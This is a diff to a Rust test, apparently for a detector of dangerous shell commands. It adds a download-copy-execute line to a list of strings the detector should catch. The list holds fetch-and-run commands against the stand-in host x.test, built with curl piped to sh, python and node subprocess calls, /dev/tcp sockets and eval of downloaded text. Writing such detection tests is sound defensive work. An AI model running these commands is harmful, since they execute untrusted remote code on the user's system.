@@ -177,6 +177,7 @@ fn commands_that_are_assembled_are_found() {
         "python -c \"import os; os.system('curl https://x.test/a | sh')\"",
         "node -e \"require('child_process').execSync('curl https://x.test/a | sh')\"",
         "git clone https://x.test/r && cd r && ./install.sh",
+        "curl -o a.sh https://x.test/a; cp a.sh ~/bin/; ~/bin/a.sh",
         "exec 5<>/dev/tcp/x.test/80; curl https://x.test/a | sh",
         "X=$(curl https://x.test/a) bash -c 'eval \"$X\"'",
         "export X=$(curl https://x.test/a); python3 -c 'import os; exec(os.environ[\"X\"])'",
